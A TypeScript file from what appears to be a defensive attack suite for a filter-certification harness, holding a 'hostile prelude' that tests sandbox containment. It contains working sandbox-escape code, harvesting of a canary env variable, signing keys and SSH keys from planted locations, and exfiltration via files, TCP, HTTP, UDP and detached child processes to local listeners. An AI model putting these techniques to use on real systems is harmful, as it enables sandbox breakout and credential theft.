/**
 * The attack suite's shared hostile code: JavaScript text put at the top of every hostile filter
 * module (see filters.ts). A vendor module may not import anything statically but what the
 * allow-list permits, so everything here reaches for its capabilities at run time, by every route
 * it knows, each inside try/catch and recorded in LOOT.routes ('ok', 'nothing' or 'blocked: …'):
 * a blocked route never stops the next one.
 *
 * The text expects `CFG` (a JSON object: token, kase, port, udpPort, name, cls) declared before it.
 *
 * Safety on a shared machine, where the attacks may succeed today: secrets are only taken from
 * places the test planted (a HOME is used only when it holds the `.iofhostile-home` marker, and of
 * any process environment only IOFCERT_ATTACK_CANARY and HOME are ever read out), harness files are
 * only rewritten under a tree holding `.iofhostile-tree`, and `kill(-1)` is only tried inside a PID
 * namespace of its own. Every file an attack writes has the case's token in its name or content.
 *
 * Written without template literals: the text lives in a TypeScript String.raw template.
 */
export const PRELUDE = String.raw`
// ---------------- iofcert attack suite: hostile prelude ----------------
const TOKEN = CFG.token
const T_LOAD = Date.now()
const THREAD = Math.random().toString(36).slice(2, 8)
const LOOT = { token: TOKEN, kase: CFG.kase, thread: THREAD, routes: {}, secrets: {}, exfil: {}, notes: [], stacks: [] }
const errText = e => String((e && e.message) || e).split('\n')[0].slice(0, 200)
const sleep = ms => new Promise(r => setTimeout(r, ms))
const bounded = (p, ms) => Promise.race([Promise.resolve(p).then(v => v, () => undefined), sleep(ms)])
function rec(k, v) { LOOT.routes[k] = v }
async function attempt(k, fn) {
  try {
    const v = await fn()
    const ok = v !== undefined && v !== null && v !== false
    rec(k, ok ? 'ok' : 'nothing')
    return ok ? v : undefined
  } catch (e) {
    rec(k, 'blocked: ' + errText(e))
    return undefined
  }
}
const norm = m => (m && m.default && (typeof m.default === 'object' || typeof m.default === 'function') ? m.default : m)
function dec(u8) {
  try { return new TextDecoder('latin1').decode(u8) } catch {}
  let s = ''
  for (let i = 0; i < u8.length; i++) s += String.fromCharCode(u8[i])
  return s
}
function enc(s) {
  const u = new Uint8Array(s.length)
  for (let i = 0; i < s.length; i++) u[i] = s.charCodeAt(i) & 255
  return u
}
function dirname(p) { const i = p.lastIndexOf('/'); return i <= 0 ? '/' : p.slice(0, i) }
try { Error.stackTraceLimit = 50 } catch {}
function stackNow(label) { try { LOOT.stacks.push(label + ': ' + String(new Error('probe').stack).split('\n').slice(1, 30).join(' | ')) } catch {} }

// ---- every object that might be the real process ----
const PROCS = []
let procsP = null
function procs() {
  return procsP || (procsP = (async () => {
    const routes = [
      ['free identifier', () => process],
      ['globalThis.process', () => globalThis.process],
      ['Function("return this")()', () => Function('return this')().process],
      ['({}).constructor.constructor', () => ({}).constructor.constructor('return process')()],
      ['indirect eval', () => (0, eval)('process')],
      ['AsyncFunction constructor', () => Object.getPrototypeOf(async function () {}).constructor('return process')()],
      ['GeneratorFunction constructor', () => Object.getPrototypeOf(function* () {}).constructor('return process')().next().value],
      ['prototype walk from setTimeout', () => Object.getPrototypeOf(setTimeout).constructor('return process')()],
      ['prototype walk from a sdk-free object', () => Object.getPrototypeOf(Object.getPrototypeOf([].values())).constructor.constructor('return process')()],
      ['import("node:process")', async () => norm(await import('node:' + 'process'))],
      ['import("process")', async () => norm(await import('pro' + 'cess'))],
    ]
    for (const [k, f] of routes) {
      const p = await attempt('process via ' + k, f)
      if (p && typeof p === 'object' && !PROCS.includes(p)) PROCS.push(p)
    }
    PROCS.forEach((P, i) => {
      const has = n => { try { return typeof P[n] === 'function' } catch { return false } }
      let envKeys = -1
      try { envKeys = Object.keys(P.env || {}).length } catch {}
      LOOT.notes.push('process#' + i + ': kill=' + has('kill') + ' getBuiltinModule=' + has('getBuiltinModule') + ' binding=' + has('binding') + ' env keys=' + envKeys + ' argv=' + (function () { try { return (P.argv || []).length } catch { return -1 } })())
    })
    return PROCS
  })())
}

// ---- Node's built-in modules, by every route ----
const MODS = new Map()
async function mod(name) {
  if (MODS.has(name)) return MODS.get(name)
  await procs()
  let got
  const take = v => { v = norm(v); if (v && got === undefined) got = v; return v }
  await attempt(name + ' via import("node:' + name + '")', async () => take(await import('node:' + name)))
  await attempt(name + ' via import("' + name + '")', async () => take(await import(name)))
  await attempt(name + ' via import(data: URL)', async () => take(await import('data:text/javascript,export { default } from "node:' + name + '"')))
  for (let i = 0; i < PROCS.length; i++) {
    const P = PROCS[i]
    await attempt(name + ' via process#' + i + '.getBuiltinModule', () => take(P.getBuiltinModule(name)))
    await attempt(name + ' via process#' + i + '.mainModule.require', () => take(P.mainModule.require(name)))
  }
  await attempt(name + ' via globalThis.require', () => take(globalThis.require(name)))
  await attempt(name + ' via module.createRequire', async () => take(norm(await import('node:' + 'module')).createRequire(import.meta.url)(name)))
  await attempt(name + ' via a bundled file importing it', async () => take(await import('./lib/bridge-' + name + '.js')))
  await attempt(name + ' via a bundled node_modules package', async () => take(await import('bridge-' + name)))
  MODS.set(name, got)
  return got
}

// ---- file capabilities: fs, child_process, the sidecar's class, the harness's own modules ----
const CAPS = []
let capsP = null
function sidecarCap(kind, S) {
  return {
    kind,
    read: async p => {
      const s = new S(p)
      try {
        const n = await s.size()
        const u = await s.read(0, n > 0 ? Math.min(n, 1 << 20) : 65536)
        let end = u.length
        if (n <= 0) while (end > 0 && u[end - 1] === 0) end--
        if (end === 0) throw new Error('empty or missing')
        return dec(u.subarray(0, end))
      } finally { try { s.close() } catch {} }
    },
    write: async (p, t) => {
      const s = new S(p)
      try { const b = enc(t); await s.write(0, b); await s.truncate(b.length); await s.sync() } finally { try { s.close() } catch {} }
    },
  }
}
/** fs and child_process, once. */
function caps() {
  return capsP || (capsP = (async () => {
    await procs()
    const fs = await mod('fs')
    if (fs && typeof fs.readFileSync === 'function') {
      CAPS.push({
        kind: 'fs',
        read: async p => fs.readFileSync(p, 'latin1'),
        write: async (p, t) => fs.writeFileSync(p, t),
        mkdir: async p => { fs.mkdirSync(p, { recursive: true }) },
        list: async p => fs.readdirSync(p),
        link: async p => fs.readlinkSync(p),
      })
    }
    for (let i = 0; i < PROCS.length; i++) await attempt('fs via process#' + i + '.binding("fs")', () => PROCS[i].binding('fs'))
    const cp = await mod('child_process')
    if (cp && typeof cp.execFileSync === 'function') {
      CAPS.push({
        kind: 'child_process',
        read: async p => cp.execFileSync('cat', [p], { encoding: 'latin1', stdio: ['ignore', 'pipe', 'ignore'], timeout: 5000 }),
        write: async (p, t) => { cp.execFileSync('sh', ['-c', 'cat > "$1"', 'sh', p], { input: t, stdio: ['pipe', 'ignore', 'ignore'], timeout: 5000 }) },
        mkdir: async p => { cp.execFileSync('mkdir', ['-p', p], { stdio: 'ignore', timeout: 5000 }) },
        list: async p => cp.execFileSync('ls', ['-1A', p], { encoding: 'latin1', stdio: ['ignore', 'pipe', 'ignore'], timeout: 5000 }).split('\n').filter(Boolean),
        link: async p => cp.execFileSync('readlink', [p], { encoding: 'latin1', stdio: ['ignore', 'pipe', 'ignore'], timeout: 5000 }).trim(),
      })
    }
  })())
}
/** The harness's own modules that read or write any path, for every harness tree found so far. */
const HARNESS_DONE = new Set()
async function harnessCaps() {
  await caps()
  for (const root of await harnessRoots()) {
    if (HARNESS_DONE.has(root)) continue
    HARNESS_DONE.add(root)
    const S = await attempt('FileSidecar via import(' + root + '/harness/framework/worker-common.js)', async () => (await import('file://' + root + '/harness/framework/worker-common.js')).FileSidecar)
    if (S) CAPS.push(sidecarCap('harness FileSidecar', S))
    const w = await attempt('writeTextAtomic via import(' + root + '/reports/write.js)', async () => (await import('file://' + root + '/reports/write.js')).writeTextAtomic)
    if (w) CAPS.push({ kind: 'harness writeTextAtomic', write: async (p, t) => w(p, t) })
  }
}
/** The DiskContext's sidecar object is an instance of a class that opens any path it is given. */
function diskCaps(disk) {
  try {
    const S = disk && disk.sidecar && disk.sidecar.constructor
    rec('file access via disk.sidecar.constructor', typeof S === 'function' && S !== Object ? 'ok' : 'nothing')
    if (typeof S === 'function' && S !== Object && !CAPS.some(c => c.kind === 'disk.sidecar.constructor')) CAPS.push(sidecarCap('disk.sidecar.constructor', S))
  } catch (e) { rec('file access via disk.sidecar.constructor', 'blocked: ' + errText(e)) }
  try { if (disk && disk.sidecar && typeof disk.sidecar.file === 'string') LOOT.notes.push('sidecar path: ' + disk.sidecar.file) } catch {}
}
async function readText(p, label) {
  await caps()
  for (const c of CAPS) {
    if (!c.read) continue
    try { const v = await c.read(p); rec('read ' + (label || p) + ' via ' + c.kind, 'ok'); return v } catch (e) { rec('read ' + (label || p) + ' via ' + c.kind, 'blocked: ' + errText(e)) }
  }
  return undefined
}
async function writeText(p, t, label) {
  await caps()
  for (const c of CAPS) {
    if (!c.write) continue
    try { await c.write(p, t); LOOT.exfil[label || p] = 'written via ' + c.kind; return c.kind } catch (e) { rec('write ' + (label || p) + ' via ' + c.kind, 'blocked: ' + errText(e)) }
  }
  const key = label || p
  if (!(key in LOOT.exfil)) LOOT.exfil[key] = 'blocked'
  return undefined
}
async function mkdirAny(p) {
  await caps()
  for (const c of CAPS) { if (c.mkdir) { try { await c.mkdir(p); return true } catch {} } }
  return false
}
async function listAny(p) {
  await caps()
  for (const c of CAPS) { if (c.list) { try { return await c.list(p) } catch {} } }
  return undefined
}
async function linkAny(p) {
  await caps()
  for (const c of CAPS) { if (c.link) { try { return await c.link(p) } catch {} } }
  return undefined
}

// ---- where the harness is: stack traces, argv, command lines of the process and its ancestors ----
const HARNESS_RE = /(?:file:\/\/)?(\/[^\s'"()<>:]*?)\/harness\/(?:certify|framework|cli|bench|sdk)\/[\w.-]+\.js/g
function rootsIn(text, set) { try { for (const m of String(text).matchAll(HARNESS_RE)) set.add(decodeURIComponent(m[1])) } catch {} }
let ancestryP = null
let ancestryCaps = -1
function ancestry() {
  if (ancestryP && ancestryCaps === CAPS.length) return ancestryP
  ancestryCaps = CAPS.length
  return (ancestryP = (async () => {
    const out = []
    let pid = 'self'
    for (let i = 0; i < 2 && pid; i++) {
      const cmd = await readText('/proc/' + pid + '/cmdline', 'cmdline of ' + (i === 0 ? 'self' : 'ancestor ' + i))
      const stat = await readText('/proc/' + pid + '/stat', 'stat of ' + (i === 0 ? 'self' : 'ancestor ' + i))
      if (cmd === undefined && stat === undefined) break
      const m = stat && /\)\s+\S+\s+(\d+)/.exec(stat)
      const real = stat && /^(\d+)/.exec(stat)
      out.push({ pid: real ? real[1] : pid, argv: cmd ? cmd.split('\0').filter(Boolean) : [] })
      pid = m && m[1] !== '0' ? m[1] : null
    }
    return out
  })())
}
async function harnessRoots() {
  const set = new Set()
  rootsIn(new Error('probe').stack, set)
  rootsIn(LOOT.stacks.join('\n'), set)
  for (const P of PROCS) {
    try { rootsIn((P.argv || []).join(' '), set) } catch {}
    try { rootsIn((P.execArgv || []).join(' '), set) } catch {}
  }
  try { rootsIn(import.meta.resolve('iofcert/sdk'), set) } catch {}
  for (const a of (await ancestry()).slice(0, 2)) rootsIn(a.argv.join(' '), set)
  const roots = [...set]
  LOOT.notes.push('harness roots seen: ' + JSON.stringify(roots))
  return roots
}

// ---- what the harness was asked to do: the package, the report, the signing key ----
function flag(argv, name) {
  const i = argv.indexOf(name)
  if (i >= 0 && i + 1 < argv.length) return argv[i + 1]
  const eq = argv.find(a => typeof a === 'string' && a.startsWith(name + '='))
  return eq ? eq.slice(name.length + 1) : undefined
}
let targetsP = null
let targetsCaps = -1
function targets() {
  if (targetsP && targetsCaps === CAPS.length) return targetsP
  targetsCaps = CAPS.length
  return (targetsP = (async () => {
    await caps()
    const argvs = []
    const cwds = new Set()
    for (const P of PROCS) {
      try { if (Array.isArray(P.argv) || (P.argv && P.argv.length)) argvs.push([...P.argv]) } catch {}
      try { const c = P.cwd(); if (c) cwds.add(c) } catch {}
    }
    // its own command line and its parent's, and its own working directory: nothing further up
    // (on an unsandboxed run that would be the user's shell and the test runner, not the harness)
    const anc = await ancestry()
    for (const a of anc.slice(0, 2)) argvs.push(a.argv)
    const own = await linkAny('/proc/self/cwd')
    if (own) cwds.add(own)
    const cwd = [...cwds][0] || '/'
    const abs = p => (p.startsWith('/') ? p : cwd + '/' + p)
    const t = { sign: new Set(), json: new Set(), pkg: new Set(), cwd: cwds, argvSeen: argvs.length }
    for (const a of argvs) {
      const s = flag(a, '--sign')
      if (s) t.sign.add(abs(s))
      for (const f of ['--json', '--html', '--junit']) { const j = flag(a, f); if (j && j !== '-') t.json.add(abs(j)) }
      const i = a.indexOf('certify')
      if (i >= 0 && a[i + 1] && !a[i + 1].startsWith('-')) t.pkg.add(abs(a[i + 1]))
    }
    LOOT.notes.push('targets: sign=' + JSON.stringify([...t.sign]) + ' reports=' + JSON.stringify([...t.json]) + ' package=' + JSON.stringify([...t.pkg]))
    return t
  })())
}

// ---- secrets: the env canary, the --sign key, ~/.ssh/id_ed25519 (only in a HOME the test planted) ----
const HOMES = new Set()
const HOMES_OK = new Set()
function pickEnv(text) {
  if (!text) return
  for (const kv of text.split('\0')) {
    if (kv.startsWith('IOFCERT_ATTACK_CANARY=')) LOOT.secrets.envCanary = kv.slice('IOFCERT_ATTACK_CANARY='.length)
    if (kv.startsWith('HOME=')) HOMES.add(kv.slice(5))
  }
}
async function harvest() {
  await caps()
  const S = LOOT.secrets
  PROCS.forEach((P, i) => {
    try { const v = P.env && P.env.IOFCERT_ATTACK_CANARY; rec('env canary via process#' + i + '.env', v ? 'ok' : 'nothing'); if (v) S.envCanary = v } catch (e) { rec('env canary via process#' + i + '.env', 'blocked: ' + errText(e)) }
    try { if (P.env && P.env.HOME) HOMES.add(P.env.HOME) } catch {}
  })
  for (const a of (await ancestry()).slice(0, 2)) pickEnv(await readText('/proc/' + a.pid + '/environ', 'environ of pid ' + a.pid))
  // the init process of whatever namespace this is: only the canary is looked for, nothing kept
  const init = await readText('/proc/1/environ', '/proc/1/environ')
  LOOT.notes.push('/proc/1/environ: ' + (init === undefined ? 'unreadable' : 'readable, ' + init.length + ' bytes, canary ' + (init.includes('IOFCERT_ATTACK_CANARY=') ? 'present' : 'absent')))
  if (init && init.includes('IOFCERT_ATTACK_CANARY=')) pickEnv(init.split('\0').filter(kv => kv.startsWith('IOFCERT_ATTACK_CANARY=')).join('\0'))
  const cp = await mod('child_process')
  await attempt('env canary via a shell', () => {
    const v = cp.execFileSync('sh', ['-c', 'printf %s "$IOFCERT_ATTACK_CANARY"'], { encoding: 'utf8', stdio: ['ignore', 'pipe', 'ignore'], timeout: 5000 })
    if (v) S.envCanary = v
    return v
  })
  const t = await targets()
  for (const k of t.sign) {
    const pem = await readText(k, 'the --sign key')
    if (pem && /PRIVATE KEY/.test(pem)) { S.signKey = pem; S.signKeyPath = k }
  }
  const os = await mod('os')
  try { if (os) HOMES.add(os.homedir()) } catch {}
  HOMES.add('/root')
  const homeList = await listAny('/home')
  if (homeList) for (const h of homeList) HOMES.add('/home/' + h)
  for (const h of HOMES) {
    if ((await readText(h + '/.iofhostile-home', 'a HOME marker')) === undefined) continue
    HOMES_OK.add(h)
    const key = await readText(h + '/.ssh/id_ed25519', '~/.ssh/id_ed25519')
    if (key) S.sshKey = key
  }
  return S
}
function secretsFound() { return Object.keys(LOOT.secrets).length > 0 }
function secretText() { return JSON.stringify({ token: TOKEN, kase: CFG.kase, secrets: LOOT.secrets }) }

// ---- exfiltration: files everywhere, TCP/HTTP/UDP/abstract sockets, child processes ----
async function execPath() {
  for (const P of PROCS) { try { if (P.execPath) return P.execPath } catch {} }
  return (await linkAny('/proc/self/exe')) || 'node'
}
async function netExfil(text) {
  const net = await mod('net')
  if (net) {
    await attempt('exfil over TCP to 127.0.0.1:' + CFG.port, () => new Promise((res, rej) => {
      const s = net.connect(CFG.port, '127.0.0.1')
      const t = setTimeout(() => { s.destroy(); rej(new Error('timeout')) }, 2000)
      s.on('connect', () => s.end(text, () => { clearTimeout(t); res(true) }))
      s.on('error', e => { clearTimeout(t); rej(e) })
    }))
    await attempt('exfil over an abstract unix socket', () => new Promise((res, rej) => {
      const s = net.connect({ path: '\0iofhostile-' + TOKEN })
      const t = setTimeout(() => { s.destroy(); rej(new Error('timeout')) }, 2000)
      s.on('connect', () => s.end(text, () => { clearTimeout(t); res(true) }))
      s.on('error', e => { clearTimeout(t); rej(e) })
    }))
  }
  await attempt('exfil with fetch() to 127.0.0.1:' + CFG.port, async () => {
    const r = await fetch('http://127.0.0.1:' + CFG.port + '/' + TOKEN, { method: 'POST', body: text, signal: AbortSignal.timeout(2000) })
    return r.status > 0
  })
  const http = await mod('http')
  if (http) {
    await attempt('exfil with http.request to 127.0.0.1:' + CFG.port, () => new Promise((res, rej) => {
      const q = http.request({ host: '127.0.0.1', port: CFG.port, method: 'POST', path: '/' + TOKEN, timeout: 2000 }, r => { r.resume(); res(true) })
      q.on('error', rej)
      q.on('timeout', () => { q.destroy(); rej(new Error('timeout')) })
      q.end(text)
    }))
  }
  const dgram = await mod('dgram')
  if (dgram) {
    await attempt('exfil over UDP to 127.0.0.1:' + CFG.udpPort, () => new Promise((res, rej) => {
      const s = dgram.createSocket('udp4')
      s.on('error', e => { try { s.close() } catch {} rej(e) })
      s.send(text.slice(0, 8000), CFG.udpPort, '127.0.0.1', e => { try { s.close() } catch {} if (e) rej(e); else res(true) })
    }))
  }
}
async function procExfil(text, name) {
  const cp = await mod('child_process')
  if (!cp) return
  await attempt('child_process: id', () => { LOOT.notes.push('id: ' + cp.execFileSync('id', { encoding: 'utf8', timeout: 5000 }).trim()); return true })
  await attempt('child_process: sh -c writes the loot to /tmp', () => {
    cp.execFileSync('sh', ['-c', 'cat > "$1"; printf %s "$IOFCERT_ATTACK_CANARY" > "$2"', 'sh', '/tmp/' + name + '-sh.txt', '/tmp/' + name + '-shenv.txt'], { input: text, stdio: ['pipe', 'ignore', 'ignore'], timeout: 5000 })
    return true
  })
  const exe = await execPath()
  const late = '/tmp/' + name + '-late.txt'
  await attempt('detached node process writes the loot after the harness is gone', () => {
    const c = cp.spawn(exe, ['-e', 'setTimeout(() => { try { require("fs").writeFileSync(' + JSON.stringify(late) + ', ' + JSON.stringify(text) + ') } catch {} }, 2500) /* ' + TOKEN + ' */'], { detached: true, stdio: 'ignore' })
    c.on('error', () => {})
    c.unref()
    return c.pid > 0
  })
  await attempt('detached shell writes the loot after the harness is gone', () => {
    const c = cp.spawn('sh', ['-c', 'sleep 2; printf %s "$1" > "$2" # ' + TOKEN, 'sh', text, late + '.sh'], { detached: true, stdio: 'ignore' })
    c.on('error', () => {})
    c.unref()
    return c.pid > 0
  })
}
async function exfil(where) {
  const full = JSON.stringify(LOOT)
  const text = secretText()
  const name = 'iofhostile-' + TOKEN + '-' + CFG.kase + '-' + where + '-' + THREAD
  const t = await targets()
  const dirs = new Set(['/tmp', '/var/tmp', '/dev/shm'])
  const os = await mod('os')
  try { if (os) dirs.add(os.tmpdir()) } catch {}
  for (const h of HOMES_OK) dirs.add(h)
  for (const p of t.pkg) dirs.add(dirname(p))
  for (const j of t.json) dirs.add(dirname(j))
  for (const k of t.sign) dirs.add(dirname(k))
  for (const c of t.cwd) dirs.add(c)
  try { dirs.add(dirname(new URL(import.meta.url).pathname)) } catch {}
  for (const d of dirs) await writeText(d + '/' + name + '.txt', full, 'file in ' + d)
  // dressed as the harness's own temp dir
  if (await mkdirAny('/tmp/iofcert-run-' + TOKEN)) await writeText('/tmp/iofcert-run-' + TOKEN + '/' + name + '.txt', full, 'file in a fake harness temp dir')
  await netExfil(text)
  await procExfil(text, name)
}
/** Every secret by every route, then out by every channel; bounded in time. */
async function fullAttack(where, disk) {
  if (disk) { diskCaps(disk); stackNow(where) }
  await procs()
  await caps()
  await harnessCaps()
  await harvest()
  await exfil(where)
}

// ---- a PID namespace of our own? (kill(-1) is tried only then) ----
async function inOwnPidNamespace() {
  const st = await readText('/proc/self/status', '/proc/self/status')
  const m = st && /NSpid:\s*([\d\s]+)/.exec(st)
  if (m && m[1].trim().split(/\s+/).length > 1) return true
  const list = await listAny('/proc')
  const pids = list ? list.filter(n => /^\d+$/.test(n)).length : 1e9
  const self = st && /\nPid:\s*(\d+)/.exec(st)
  return pids < 30 && self !== null && Number(self[1]) < 100
}

// ---- a well-behaved filter's fields ----
/**
 * In explain mode (CFG.explain) open() does its attack, then fails with what the filter found: the
 * check's failure message carries it into the report, the one channel out of a sandbox.
 */
function explained(open) {
  return async function (disk) {
    let openError = null
    try { await open.call(this, disk) } catch (e) { openError = errText(e) }
    const out = {
      ok: Object.entries(LOOT.routes).filter(([, v]) => v === 'ok').map(([k]) => k),
      exfil: Object.entries(LOOT.exfil).filter(([, v]) => v !== 'blocked').map(([k, v]) => k + ' (' + v + ')'),
      secrets: Object.keys(LOOT.secrets),
      notes: LOOT.notes.slice(0, 10),
      openError,
    }
    if (typeof SIG !== 'undefined') out.signals = SIG.decisive
    throw new Error('IOFHOSTILE-EXPLAIN ' + TOKEN + ' ' + JSON.stringify(out).slice(0, 6000))
  }
}
function filterFields(over) {
  const f = Object.assign({ abiVersion: 1, name: CFG.name, vendor: 'HOSTILE', version: '1.0.0', class: CFG.cls }, CFG.policySchema ? { policySchema: CFG.policySchema } : {}, over)
  if (CFG.explain && typeof f.open === 'function') f.open = explained(f.open)
  return f
}
/** An instance that flips the first byte of every read it passes down (a broken filter that wants to look certified). */
function corruptingInstance() {
  return {
    done(io, outcome) {
      if (io.op === 'read' && outcome.ok && io.data && io.data.length > 0) io.data[0] ^= 0xff
    },
  }
}
// ---------------- end of prelude ----------------
`
